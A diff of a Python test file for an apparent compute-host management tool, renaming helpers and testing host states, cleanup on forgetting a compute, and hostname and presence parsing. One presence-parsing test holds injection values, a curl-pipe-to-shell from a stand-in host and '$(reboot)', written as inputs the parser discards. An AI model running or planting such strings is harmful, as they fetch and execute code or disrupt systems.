@@ -10,38 +10,38 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from ecomp.cli.operators import as_hosts
+from ecomp.cli.operators import make_host_listing
 from ecomp.model import keys
 from ecomp.model.allocation import Room
 from ecomp.model.host import (
-    NOBODY,
+    NO_COMPUTES,
     Computes,
+    EntriesByCompute,
+    EtcdState,
     Host,
-    InEtcd,
-    InPlacement,
     Leftovers,
-    Living,
-    Places,
-    by_instance,
-    changed_hosts,
-    hostname_in,
-    hosts,
+    PresenceFacts,
+    ProviderSummary,
+    collect_changed_requests,
+    describe_silent_fix,
+    find_forget_obstacle,
+    find_leftovers,
+    group_by_instance,
+    hostname_to_json,
     is_hostname,
-    leftovers,
-    living,
-    living_in,
-    refusal,
-    silent_cure,
-    there,
-    to_json,
-    unproven,
+    list_hosts,
+    list_living,
+    list_present,
+    list_unproven,
+    parse_hostname,
+    parse_presence,
 )
-from ecomp.model.order import Invalid, Request
+from ecomp.model.order import InvalidRequest, Request
 from ecomp.model.record import ACTIVE, GONE, Failure, Record
 from ecomp.model.record import to_json as record_text
-from ecomp.model.status import BY_OPERATOR, DISABLED
+from ecomp.model.status import DISABLED, DISABLED_BY_OPERATOR
 from ecomp.store.client import Entry
-from tests.kit.forms import text
+from tests.kit.forms import render
 
 # A compute in both planes: its state, its living instances, and what may be removed with it.
 
@@ -49,32 +49,32 @@ from tests.kit.forms import text
 HOST, OTHER = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'ab')
 A, B, C, D, E = (f'{digit * 8}-0000-4b0f-8d87-0d8f1f2a6b01' for digit in '12345')
 
-ROOM = {'VCPU': Room(4, 1), 'MEMORY_MB': Room(512, 128), 'DISK_GB': Room(10, 1)}
-SHUT = {**ROOM, 'VCPU': Room(0, 1, shut=True)}
+OPEN_ROOM = {'VCPU': Room(4, 1), 'MEMORY_MB': Room(512, 128), 'DISK_GB': Room(10, 1)}
+CLOSED_ROOM = {**OPEN_ROOM, 'VCPU': Room(0, 1, is_fully_reserved=True)}
 
 
-def wish(instance: str) -> Request:
+def make_request(instance: str) -> Request:
     return Request(instance, {HOST: {'VCPU': 1, 'MEMORY_MB': 128, 'DISK_GB': 1}}, image='http://images.invalid/a')
 
 
-def tombstone(instance: str) -> Request:
+def make_tombstone(instance: str) -> Request:
     return Request(instance, {})
 
 
-def record(instance: str, state: str, compute: str = HOST) -> Record:
+def make_record(instance: str, state: str, compute: str = HOST) -> Record:
     return Record(instance, compute, state, image=None, error=Failure('disk', 'full', '') if state == 'error' else None)
 
 
-def provider(shares: dict[str, Room] = ROOM, uuid: str = HOST, name: str = '') -> dict[str, InPlacement]:
-    return {uuid: InPlacement(uuid, name or uuid, shares)}
+def make_provider(shares: dict[str, Room] = OPEN_ROOM, uuid: str = HOST, name: str = '') -> dict[str, ProviderSummary]:
+    return {uuid: ProviderSummary(uuid, name or uuid, shares)}
 
 
-def up(hosts: dict[str, str | None]) -> Computes:
-    return Computes({compute: Living(host) for compute, host in hosts.items()})
+def make_computes(hosts: dict[str, str | None]) -> Computes:
+    return Computes({compute: PresenceFacts(host) for compute, host in hosts.items()})
 
 
-def state(etcd: InEtcd, providers: dict[str, InPlacement]) -> str:
-    (host,) = hosts(etcd, providers)
+def read_state(etcd: EtcdState, providers: dict[str, ProviderSummary]) -> str:
+    (host,) = list_hosts(etcd, providers)
     return host.state
 
 
@@ -82,68 +82,72 @@ def state(etcd: InEtcd, providers: dict[str, InPlacement]) -> str:
 
 
 @pytest.mark.parametrize(
-    ('etcd', 'providers', 'wanted'),
+    ('etcd', 'providers', 'expected'),
     [
-        (InEtcd(up({HOST: 'hv1'})), provider(), 'up'),
-        (InEtcd(up({HOST: 'hv1'})), provider(SHUT), 'up'),
-        (InEtcd(up({HOST: None})), {}, 'up'),
-        (InEtcd(), provider(SHUT), 'closed'),
-        (InEtcd(requests={HOST: {A: wish(A)}}), provider(SHUT), 'closed'),
-        (InEtcd(requests={HOST: {A: wish(A)}}), provider(), 'silent'),
-        (InEtcd(requests={HOST: {A: tombstone(A)}}), {}, 'silent'),
-        (InEtcd(records={A: record(A, 'active')}), {}, 'silent'),
-        (InEtcd(records={A: record(A, 'gone')}), provider(), 'silent'),
-        (InEtcd(junk={HOST: ['x']}), provider(), 'silent'),
-        (InEtcd(), provider(), 'orphaned'),
-        (InEtcd(), provider({}), 'orphaned'),
-        (InEtcd(records={A: record(A, 'active', OTHER)}), {**provider(), **provider(uuid=OTHER)}, None),
+        (EtcdState(make_computes({HOST: 'hv1'})), make_provider(), 'up'),
+        (EtcdState(make_computes({HOST: 'hv1'})), make_provider(CLOSED_ROOM), 'up'),
+        (EtcdState(make_computes({HOST: None})), {}, 'up'),
+        (EtcdState(), make_provider(CLOSED_ROOM), 'closed'),
+        (EtcdState(requests={HOST: {A: make_request(A)}}), make_provider(CLOSED_ROOM), 'closed'),
+        (EtcdState(requests={HOST: {A: make_request(A)}}), make_provider(), 'silent'),
+        (EtcdState(requests={HOST: {A: make_tombstone(A)}}), {}, 'silent'),
+        (EtcdState(records={A: make_record(A, 'active')}), {}, 'silent'),
+        (EtcdState(records={A: make_record(A, 'gone')}), make_provider(), 'silent'),
+        (EtcdState(invalid_names={HOST: ['x']}), make_provider(), 'silent'),
+        (EtcdState(), make_provider(), 'orphaned'),
+        (EtcdState(), make_provider({}), 'orphaned'),
+        (
+            EtcdState(records={A: make_record(A, 'active', OTHER)}),
+            {**make_provider(), **make_provider(uuid=OTHER)},
+            None,
+        ),
     ],
 )
-def test_state(etcd: InEtcd, providers: dict[str, InPlacement], wanted: str | None) -> None:
-    if wanted is None:
-        assert {host.compute: host.state for host in hosts(etcd, providers)} == {HOST: 'orphaned', OTHER: 'silent'}
+def test_state_of_a_compute(etcd: EtcdState, providers: dict[str, ProviderSummary], expected: str | None) -> None:
+    if expected is None:
+        assert {host.compute: host.state for host in list_hosts(etcd, providers)} == {HOST: 'orphaned', OTHER: 'silent'}
     else:
-        assert state(etcd, providers) == wanted
+        assert read_state(etcd, providers) == expected
 
 
 @pytest.mark.parametrize(
     'foreign',
     [
-        provider(name='nova-compute-7'),  # a placement shared with OpenStack
-        provider({'DISK_GB': Room(1000, 5)}),  # a storage pool, shared by aggregate
-        provider({}, name='new'),
+        make_provider(name='nova-compute-7'),  # a placement shared with OpenStack
+        make_provider({'DISK_GB': Room(1000, 5)}),  # a storage pool, shared by aggregate
+        make_provider({}, name='new'),
     ],
 )
-def test_what_others_registered_is_no_compute_of_ours(foreign: dict[str, InPlacement]) -> None:
-    assert hosts(InEtcd(), foreign) == []
+def test_foreign_provider_is_not_listed(foreign: dict[str, ProviderSummary]) -> None:
+    assert list_hosts(EtcdState(), foreign) == []
     # If etcd knows it, it is shown with its data from placement.
-    (shown,) = hosts(InEtcd(up({HOST: 'hv1'})), foreign)
-    assert shown == Host(HOST, 'hv1', 'up', 0, foreign[HOST].shares, said=Living('hv1'))
+    (shown,) = list_hosts(EtcdState(make_computes({HOST: 'hv1'})), foreign)
+    assert shown == Host(HOST, 'hv1', 'up', 0, foreign[HOST].rooms, facts=PresenceFacts('hv1'))
 
 
-def test_what_is_no_uuid_is_no_compute() -> None:
-    assert hosts(InEtcd(up({'x': 'y'}), junk={'': ['z']}), {}) == []
-    assert hosts(InEtcd(records={A: record(A, 'active', 'x')}), {}) == []
+def test_key_without_a_uuid_is_not_a_compute() -> None:
+    assert list_hosts(EtcdState(make_computes({'x': 'y'}), invalid_names={'': ['z']}), {}) == []
+    assert list_hosts(EtcdState(records={A: make_record(A, 'active', 'x')}), {}) == []
 
 
-def test_hosts_are_sorted_by_name_and_those_without_come_last() -> None:
+def test_hosts_are_sorted_by_name_with_unnamed_last() -> None:
     third = 'c' + OTHER[1:]
-    shown = hosts(InEtcd(up({third: 'hv1', OTHER: 'hv2'})), provider())
+    shown = list_hosts(EtcdState(make_computes({third: 'hv1', OTHER: 'hv2'})), make_provider())
     assert [host.compute for host in shown] == [third, OTHER, HOST]
 
 
-def test_a_host_that_is_away_is_shown_by_its_name() -> None:
-    computes = Computes({OTHER: Living('hv2', '1.1.0', 'kvm', True)}, {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'})
-    away, here = hosts(InEtcd(computes), provider(SHUT))
-    assert (away.compute, away.hostname, away.state, away.said) == (HOST, 'hv1', 'closed', Living())
-    assert (here.hostname, here.said.version, here.said.kind) == ('hv2', '1.1.0', 'kvm')
+def test_closed_host_is_listed_with_its_name() -> None:
+    computes = Computes({OTHER: PresenceFacts('hv2', '1.1.0', 'kvm', True)}, {HOST: 'hv1', 'c' + OTHER[1:]: 'hv3'})
+    away, here = list_hosts(EtcdState(computes), make_provider(CLOSED_ROOM))
+    assert (away.compute, away.hostname, away.state, away.facts) == (HOST, 'hv1', 'closed', PresenceFacts())
+    assert (here.hostname, here.facts.version, here.facts.kind) == ('hv2', '1.1.0', 'kvm')
 
 
-def test_free_is_never_negative_and_what_is_too_much_is_said() -> None:
+def test_overcommitted_room_is_shown_and_free_is_not_negative() -> None:
     assert (Room(4, 1).free, Room(4, 1).over) == (3, 0)
     assert (Room(2, 3).free, Room(2, 3).over) == (0, 1)
-    assert (Room(0, 3, shut=True).free, Room(0, 3, shut=True).over) == (0, 0)
-    shown = text(as_hosts([Host(HOST, None, 'up', 2, {'VCPU': Room(2, 3), 'PCPU': Room(8, 0)})]))
+    assert (Room(0, 3, is_fully_reserved=True).free, Room(0, 3, is_fully_reserved=True).over) == (0, 0)
+    shown = render(make_host_listing([Host(HOST, None, 'up', 2, {'VCPU': Room(2, 3), 'PCPU': Room(8, 0)})]))
     titles, values = (row.split('  ') for row in shown.splitlines())
     cells = dict(zip([cell.strip() for cell in titles if cell], [cell.strip() for cell in values if cell], strict=True))
     assert cells == {
@@ -160,9 +164,12 @@ def test_free_is_never_negative_and_what_is_too_much_is_said() -> None:
     }
 
 
-def test_json_says_the_same() -> None:
-    facts = Living('hv1', '1.1.0', 'kvm', False)
-    shown = text(as_hosts([Host(HOST, 'hv1', 'closed', 1, {'VCPU': Room(0, 1, shut=True)}, said=facts)]), 'json')
+def test_json_has_all_fields_of_a_host() -> None:
+    facts = PresenceFacts('hv1', '1.1.0', 'kvm', False)
+    shown = render(
+        make_host_listing([Host(HOST, 'hv1', 'closed', 1, {'VCPU': Room(0, 1, is_fully_reserved=True)}, facts=facts)]),
+        'json',
+    )
     assert json.loads(shown) == [
         {
             'compute': HOST,
@@ -182,147 +189,153 @@ def test_json_says_the_same() -> None:
 # Instances of a compute
 
 
-def test_living() -> None:
-    etcd = InEtcd(
+def test_living_lists_requested_and_recorded_instances() -> None:
+    etcd = EtcdState(
         requests={
-            HOST: {A: wish(A), B: tombstone(B), C: Invalid(C, 'not JSON')},
-            OTHER: {D: wish(D)},
+            HOST: {A: make_request(A), B: make_tombstone(B), C: InvalidRequest(C, 'not JSON')},
+            OTHER: {D: make_request(D)},
         },
         records={
-            B: record(B, 'active'),  # its destroy was accepted
-            D: record(D, 'active', OTHER),
-            E: record(E, 'stopped'),  # its request key was deleted outside ecomp
+            B: make_record(B, 'active'),  # its destroy was accepted
+            D: make_record(D, 'active', OTHER),
+            E: make_record(E, 'stopped'),  # its request key was deleted outside ecomp
         },
     )
-    assert living(HOST, etcd) == {A, C, E}
-    assert living(OTHER, etcd) == {D}
+    assert list_living(HOST, etcd) == {A, C, E}
+    assert list_living(OTHER, etcd) == {D}
 
 
-@pytest.mark.parametrize('ended', ['gone', 'error', 'destroying'])
-def test_what_ended_does_not_live(ended: str) -> None:
-    assert living(HOST, InEtcd(records={A: record(A, ended)})) == set()
+@pytest.mark.parametrize('final_state', ['gone', 'error', 'destroying'])
+def test_finished_instance_is_not_living(final_state: str) -> None:
+    assert list_living(HOST, EtcdState(records={A: make_record(A, final_state)})) == set()
 
 
-@pytest.mark.parametrize('known', [record(A, 'gone'), record(A, 'active', OTHER)])
-def test_a_request_its_compute_would_drop_does_not_live_there(known: Record) -> None:
-    etcd = InEtcd(requests={HOST: {A: wish(A)}}, records={A: known})
-    assert living(HOST, etcd) == set()
-    assert leftovers(HOST, etcd, ()) == Leftovers(stray=(A,))
+@pytest.mark.parametrize('instance_record', [make_record(A, 'gone'), make_record(A, 'active', OTHER)])
+def test_request_of_finished_or_moved_instance_is_stray(instance_record: Record) -> None:
+    etcd = EtcdState(requests={HOST: {A: make_request(A)}}, records={A: instance_record})
+    assert list_living(HOST, etcd) == set()
+    assert find_leftovers(HOST, etcd, ()) == Leftovers(stray_requests=(A,))
 
 
 # Forgetting a compute
 
 
 @pytest.mark.parametrize(
-    ('etcd', 'held', 'at_it', 'says'),
+    ('etcd', 'held', 'attempted', 'message'),
     [
-        (InEtcd(up({HOST: 'hv1'})), (), (), 'it is alive on hv1: stop'),
-        (InEtcd(up({HOST: None})), (), (), 'it is alive: '),
-        (InEtcd(requests={HOST: {A: wish(A)}}), (A,), (), f'instance {A} still there'),
-        (InEtcd(records={A: record(A, 'active')}), (), (), f'instance {A} still there'),
-        (InEtcd(records={A: replace(record(A, 'active'), name='web1')}), (), (), 'instance web1 still there'),
-        (InEtcd(requests={HOST: {A: Invalid(A, 'not JSON')}}), (), (), f'instance {A} still there'),
+        (EtcdState(make_computes({HOST: 'hv1'})), (), (), 'it is alive on hv1: stop'),
+        (EtcdState(make_computes({HOST: None})), (), (), 'it is alive: '),
+        (EtcdState(requests={HOST: {A: make_request(A)}}), (A,), (), f'instance {A} still there'),
+        (EtcdState(records={A: make_record(A, 'active')}), (), (), f'instance {A} still there'),
+        (EtcdState(records={A: replace(make_record(A, 'active'), name='web1')}), (), (), 'instance web1 still there'),
+        (EtcdState(requests={HOST: {A: InvalidRequest(A, 'not JSON')}}), (), (), f'instance {A} still there'),
         (
-            InEtcd(requests={HOST: {each: wish(each) for each in (A, B, C, D, E)}}),
+            EtcdState(requests={HOST: {each: make_request(each) for each in (A, B, C, D, E)}}),
             *((), (), f'instances {A}, {B}, {C} and 2 more still there'),
         ),
-        (InEtcd(), (A,), (A, B), f'an eschedule is at work on instance {A}'),
-        (InEtcd(unreadable={A}), (A,), (), f'recorded of instance {A} there cannot be read'),
-        (InEtcd(requests={HOST: {A: tombstone(A)}}, unreadable={A}), (), (), 'cannot be read'),
-        (InEtcd(requests={OTHER: {A: wish(A)}}), (A,), (), f'instance {A} of compute {OTHER} holds'),
-        (InEtcd(records={A: record(A, 'active', OTHER)}), (A,), (), f'instance {A} of compute {OTHER} holds'),
+        (EtcdState(), (A,), (A, B), f'an eschedule is at work on instance {A}'),
+        (EtcdState(malformed_records={A}), (A,), (), f'recorded of instance {A} there cannot be read'),
+        (EtcdState(requests={HOST: {A: make_tombstone(A)}}, malformed_records={A}), (), (), 'cannot be read'),
+        (EtcdState(requests={OTHER: {A: make_request(A)}}), (A,), (), f'instance {A} of compute {OTHER} holds'),
+        (EtcdState(records={A: make_record(A, 'active', OTHER)}), (A,), (), f'instance {A} of compute {OTHER} holds'),
         (
-            InEtcd(up({OTHER: 'hv2'}), {OTHER: {A: wish(A)}}), (A,), (),
+            EtcdState(make_computes({OTHER: 'hv2'}), {OTHER: {A: make_request(A)}}),
+            (A,),
+            (),
             f'instance {A} of compute hv2 holds',
         ),
     ],
 )
-def test_refusal(
-    etcd: InEtcd, held: tuple[str, ...], at_it: tuple[str, ...], says: str
+def test_forget_is_refused_with_its_reason(
+    etcd: EtcdState, held: tuple[str, ...], attempted: tuple[str, ...], message: str
 ) -> None:
-    reason = refusal(HOST, etcd, held, at_it)
+    reason = find_forget_obstacle(HOST, etcd, held, attempted)
     assert reason is not None
-    assert says in reason
+    assert message in reason
 
 
 @pytest.mark.parametrize(
-    ('etcd', 'held', 'at_it', 'left'),
+    ('etcd', 'held', 'attempted', 'expected'),
     [
-        (InEtcd(), (), (), Leftovers()),
+        (EtcdState(), (), (), Leftovers()),
         (
-            InEtcd(up({OTHER: 'hv2'}), requests={OTHER: {A: wish(A)}}, unreadable={B}), (), (B,),
+            EtcdState(make_computes({OTHER: 'hv2'}), requests={OTHER: {A: make_request(A)}}, malformed_records={B}),
+            (),
+            (B,),
             Leftovers(),
         ),
-        (InEtcd(), (A,), (B,), Leftovers(orphans=(A,))),
+        (EtcdState(), (A,), (B,), Leftovers(orphans=(A,))),
         (
-            InEtcd(records={A: record(A, 'gone'), B: record(B, 'error')}), (A, B), (),
+            EtcdState(records={A: make_record(A, 'gone'), B: make_record(B, 'error')}),
+            (A, B),
+            (),
             Leftovers(orphans=(A, B)),
         ),
         (
-            InEtcd(
-                requests={HOST: {A: tombstone(A), B: tombstone(B)}}, records={B: record(B, 'active')}
+            EtcdState(
+                requests={HOST: {A: make_tombstone(A), B: make_tombstone(B)}}, records={B: make_record(B, 'active')}
             ),
-            *((A, B, C), (), Leftovers(ended=(A, B), orphans=(C,))),
+            *((A, B, C), (), Leftovers(destroyed=(A, B), orphans=(C,))),
         ),
-        (InEtcd(records={A: record(A, 'destroying')}), (A,), (), Leftovers(ended=(A,))),
-        (InEtcd(junk={HOST: ['x/y']}), (), (), Leftovers(stray=('x/y',))),
+        (EtcdState(records={A: make_record(A, 'destroying')}), (A,), (), Leftovers(destroyed=(A,))),
+        (EtcdState(invalid_names={HOST: ['x/y']}), (), (), Leftovers(stray_requests=('x/y',))),
     ],
 )
-def test_leftovers(
-    etcd: InEtcd, held: tuple[str, ...], at_it: tuple[str, ...], left: Leftovers
+def test_leftovers_lists_what_forget_removes(
+    etcd: EtcdState, held: tuple[str, ...], attempted: tuple[str, ...], expected: Leftovers
 ) -> None:
-    assert refusal(HOST, etcd, held, at_it) is None
-    assert leftovers(HOST, etcd, held) == left
+    assert find_forget_obstacle(HOST, etcd, held, attempted) is None
+    assert find_leftovers(HOST, etcd, held) == expected
 
 
 @pytest.mark.parametrize(
-    ('alive', 'traits', 'shares', 'wanted', 'shown'),
+    ('alive', 'traits', 'shares', 'expected', 'shown'),
     [
-        (True, {DISABLED, BY_OPERATOR}, ROOM, ('disabled', True), 'disabled'),
-        (True, {DISABLED}, ROOM, ('disabled', True), 'disabled'),
-        (True, set(), ROOM, ('up', False), 'up'),
-        (False, {DISABLED}, SHUT, ('closed', False), 'closed'),  # its ecompute set this when it stopped
-        (False, {DISABLED, BY_OPERATOR}, SHUT, ('closed', True), 'closed, disabled'),
-        (False, {DISABLED, BY_OPERATOR}, ROOM, ('orphaned', True), 'orphaned, disabled'),
+        (True, {DISABLED, DISABLED_BY_OPERATOR}, OPEN_ROOM, ('disabled', True), 'disabled'),
+        (True, {DISABLED}, OPEN_ROOM, ('disabled', True), 'disabled'),
+        (True, set(), OPEN_ROOM, ('up', False), 'up'),
+        (False, {DISABLED}, CLOSED_ROOM, ('closed', False), 'closed'),  # its ecompute set this when it stopped
+        (False, {DISABLED, DISABLED_BY_OPERATOR}, CLOSED_ROOM, ('closed', True), 'closed, disabled'),
+        (False, {DISABLED, DISABLED_BY_OPERATOR}, OPEN_ROOM, ('orphaned', True), 'orphaned, disabled'),
     ],
 )
-def test_disabled(
-    alive: bool, traits: set[str], shares: dict[str, Room], wanted: tuple[str, bool], shown: str
+def test_disabled_computes_are_shown(
+    alive: bool, traits: set[str], shares: dict[str, Room], expected: tuple[str, bool], shown: str
 ) -> None:
-    etcd = InEtcd(up({HOST: 'hv1'} if alive else {}))
-    listed = hosts(etcd, {HOST: InPlacement(HOST, HOST, shares, frozenset(traits))})
-    assert [(host.state, host.disabled) for host in listed] == [wanted]
-    assert shown in [cell.strip() for cell in text(as_hosts(listed)).splitlines()[1].split('  ')]
+    etcd = EtcdState(make_computes({HOST: 'hv1'} if alive else {}))
+    listed = list_hosts(etcd, {HOST: ProviderSummary(HOST, HOST, shares, frozenset(traits))})
+    assert [(host.state, host.is_disabled) for host in listed] == [expected]
+    assert shown in [cell.strip() for cell in render(make_host_listing(listed)).splitlines()[1].split('  ')]
 
 
-def test_what_is_still_there() -> None:
+def test_there_includes_instances_being_destroyed() -> None:
     records = {
-        A: record(A, 'active'),
-        B: record(B, 'destroying'),
-        C: record(C, 'gone'),
-        D: record(D, 'active', OTHER),
+        A: make_record(A, 'active'),
+        B: make_record(B, 'destroying'),
+        C: make_record(C, 'gone'),
+        D: make_record(D, 'active', OTHER),
     }
-    etcd = InEtcd(requests={HOST: {A: wish(A), B: tombstone(B), C: wish(C)}}, records=records)
-    assert there(HOST, etcd) == {A, B}
+    etcd = EtcdState(requests={HOST: {A: make_request(A), B: make_tombstone(B), C: make_request(C)}}, records=records)
+    assert list_present(HOST, etcd) == {A, B}
 
 
 # Changed requests, by compute.
 
 
-KEYS = st.tuples(st.sampled_from('abc'), st.sampled_from('uvw')).map(lambda each: keys.request(*each))
-STATES = st.dictionaries(KEYS, st.integers(1, 3))
+REQUEST_KEYS = st.tuples(st.sampled_from('abc'), st.sampled_from('uvw')).map(lambda each: keys.request(*each))
+REVISIONS = st.dictionaries(REQUEST_KEYS, st.integers(1, 3))
 
 
-def state_of(revisions: dict[str, int]) -> dict[str, Entry]:
+def make_state(revisions: dict[str, int]) -> dict[str, Entry]:
     return {key: Entry(key, b'', revision) for key, revision in revisions.items()}
 
 
-@given(STATES, STATES)
-def test_who_is_told_is_told_all_and_nobody_is_forgotten(before: dict[str, int], after: dict[str, int]) -> None:
-    old_state = state_of(before)
-    of_each = changed_hosts({}, old_state, {})
+@given(REVISIONS, REVISIONS)
+def test_changed_hosts_returns_all_keys_of_changed_computes(before: dict[str, int], after: dict[str, int]) -> None:
+    old_state = make_state(before)
+    of_each = collect_changed_requests({}, old_state, {})
     copy = {compute: dict(entries) for compute, entries in of_each.items()}
-    changed = changed_hosts(old_state, state_of(after), of_each)
+    changed = collect_changed_requests(old_state, make_state(after), of_each)
     assert of_each == copy, 'what was told before is never changed'
     for compute in 'abc':
         former, current = (
@@ -331,14 +344,14 @@ def test_who_is_told_is_told_all_and_nobody_is_forgotten(before: dict[str, int],
         )
         assert (compute in changed) == (former != current)
         if compute in changed:
-            assert changed[compute] == state_of(current)
+            assert changed[compute] == make_state(current)
 
 
-def test_a_value_that_is_kept_by_now_is_told() -> None:
+def test_changed_hosts_reports_a_value_that_was_dropped_before() -> None:
     key = keys.request('a', 'u')
     long, short = Entry(key, b'', 7, dropped=2000), Entry(key, b'{}', 7)
-    assert changed_hosts({key: long}, {key: short}, {'a': {key: long}}) == {'a': {key: short}}
-    assert changed_hosts({key: short}, {key: Entry(key, b'{}', 7)}, {'a': {key: short}}) == {}
+    assert collect_changed_requests({key: long}, {key: short}, {'a': {key: long}}) == {'a': {key: short}}
+    assert collect_changed_requests({key: short}, {key: Entry(key, b'{}', 7)}, {'a': {key: short}}) == {}
 
 
 # Names of computes: the host name, and the uuid where the name is not unique.
@@ -347,75 +360,98 @@ def test_a_value_that_is_kept_by_now_is_told() -> None:
 HV1, HV2, HV3 = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')
 
 
-def test_a_compute_is_called_by_its_hosts_name_also_while_it_is_away() -> None:
-    computes = Computes({HV1: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
-    assert [computes.host(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
-    assert [computes.called(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
-    assert (computes.named('hv1'), computes.named('hv2'), computes.named('hv3')) == ([HV1], [HV2], [])
-    assert NOBODY.called(HV1) == HV1
+def test_compute_is_called_by_its_host_name_even_while_away() -> None:
+    computes = Computes({HV1: PresenceFacts('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert [computes.find_hostname(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
+    assert [computes.format_name(compute) for compute in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
+    assert (computes.find_by_hostname('hv1'), computes.find_by_hostname('hv2'), computes.find_by_hostname('hv3')) == (
+        [HV1],
+        [HV2],
+        [],
+    )
+    assert NO_COMPUTES.format_name(HV1) == HV1
 
 
-def test_what_it_says_while_it_is_alive_comes_before_what_is_remembered() -> None:
-    computes = Computes({HV1: Living('new'), HV2: Living()}, {HV1: 'old', HV2: 'hv2'})
-    assert (computes.called(HV1), computes.called(HV2), computes.named('old')) == ('new', 'hv2', [])
+def test_hostname_in_presence_overrides_the_remembered_one() -> None:
+    computes = Computes({HV1: PresenceFacts('new'), HV2: PresenceFacts()}, {HV1: 'old', HV2: 'hv2'})
+    assert (computes.format_name(HV1), computes.format_name(HV2), computes.find_by_hostname('old')) == (
+        'new',
+        'hv2',
+        [],
+    )
 
 
-def test_of_two_with_one_name_the_uuid_is_said_also_where_one_alone_lives() -> None:
+def test_shared_host_name_is_shown_with_the_uuid() -> None:
     """A compromised compute must not get requests for a host that is down by using its name."""
-    shared = Computes({HV1: Living('hv1'), HV2: Living('hv1')}, {HV3: 'hv1'})
-    assert (shared.named('hv1'), shared.called(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
-    impersonated = Computes({HV2: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
-    assert impersonated.named('hv1') == [HV1, HV2]
-    assert (impersonated.called(HV2), impersonated.called(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
+    shared = Computes({HV1: PresenceFacts('hv1'), HV2: PresenceFacts('hv1')}, {HV3: 'hv1'})
+    assert (shared.find_by_hostname('hv1'), shared.format_name(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
+    impersonated = Computes({HV2: PresenceFacts('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert impersonated.find_by_hostname('hv1') == [HV1, HV2]
+    assert (impersonated.format_name(HV2), impersonated.format_name(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
     # A host that was set up again has a new uuid. Its name is unique after the old compute is forgotten.
-    replaced = Computes({HV2: Living('hv1')}, {HV2: 'hv1'})
-    assert (replaced.named('hv1'), replaced.called(HV2)) == ([HV2], 'hv1')
+    replaced = Computes({HV2: PresenceFacts('hv1')}, {HV2: 'hv1'})
+    assert (replaced.find_by_hostname('hv1'), replaced.format_name(HV2)) == ([HV2], 'hv1')
 
 
-def test_a_text_is_told_with_names_and_a_path_is_left() -> None:
+def test_translated_replaces_uuids_but_not_in_paths() -> None:
     computes = Computes({}, {HV1: 'hv1'})
-    assert computes.translated(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
+    assert (
+        computes.replace_uuids(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
+    )
     for path in (f'/hosts/{HV1}/x', f'/instances/{HV1}', f'{HV1}/x', f'{HV1}-0', f'0{HV1}'):
-        assert computes.translated(path) == path
+        assert computes.replace_uuids(path) == path
 
 
 @pytest.mark.parametrize(
     'word',
     ['', 'a b', 'hv1\n', '\x1b[2J', 'ü', '.hv1', '-hv1', 'h' * 254, HV1, HV1.upper(), HV1.replace('-', ''), None, 7],
 )
-def test_no_host_name(word: object) -> None:
+def test_invalid_host_name_is_refused(word: object) -> None:
     assert not is_hostname(word)
-    assert hostname_in(json.dumps({'version': 1, 'hostname': word}).encode()) is None
+    assert parse_hostname(json.dumps({'version': 1, 'hostname': word}).encode()) is None
 
 
 @pytest.mark.parametrize('word', ['hv1', 'HV-1.example.org', '10', '_x', 'cafe'])
-def test_host_names(word: str) -> None:
-    assert hostname_in(to_json(word).encode()) == word
+def test_valid_host_name_is_accepted(word: str) -> None:
+    assert parse_hostname(hostname_to_json(word).encode()) == word
 
 
-def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> None:
+def test_malformed_parts_of_a_presence_are_ignored() -> None:
     facts = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
-    assert living_in(json.dumps(facts).encode()) == Living('hv1', '1.1.0', 'kvm', True)
-    assert living_in(b'{"hostname": "hv1", "version": "1.0.0"}') == Living('hv1', '1.0.0')
+    assert parse_presence(json.dumps(facts).encode()) == PresenceFacts('hv1', '1.1.0', 'kvm', True)
+    assert parse_presence(b'{"hostname": "hv1", "version": "1.0.0"}') == PresenceFacts('hv1', '1.0.0')
     for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
-        assert living_in(value) == Living()
-    assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
+        assert parse_presence(value) == PresenceFacts()
+    assert parse_presence(json.dumps({'version': 'v' * 10_000}).encode()) == PresenceFacts(version='v' * 64)
     for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
-        assert living_in(json.dumps({**facts, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)
+        assert parse_presence(json.dumps({**facts, 'version': version}).encode()) == PresenceFacts(
+            'hv1', None, 'kvm', True
+        )
 
 
-def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
-    assert 'no compute takes from queues: `queues: True`' in str(NOBODY.no_taker)
-    assert 'no compute takes' in str(Computes({HV1: Living('hv1', queues=False)}).no_taker)
-    message = str(Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2'), HV3: Living('hv3')}).no_taker)
+def test_missing_taker_is_reported_if_known() -> None:
+    assert 'no compute takes from queues: `queues: True`' in str(NO_COMPUTES.no_taker_reason)
+    assert 'no compute takes' in str(Computes({HV1: PresenceFacts('hv1', queues=False)}).no_taker_reason)
+    message = str(
+        Computes(
+            {HV1: PresenceFacts('hv1', queues=False), HV2: PresenceFacts('hv2'), HV3: PresenceFacts('hv3')}
+        ).no_taker_reason
+    )
     assert 'of hv2 and 1 more, of an older version, it is not known' in message
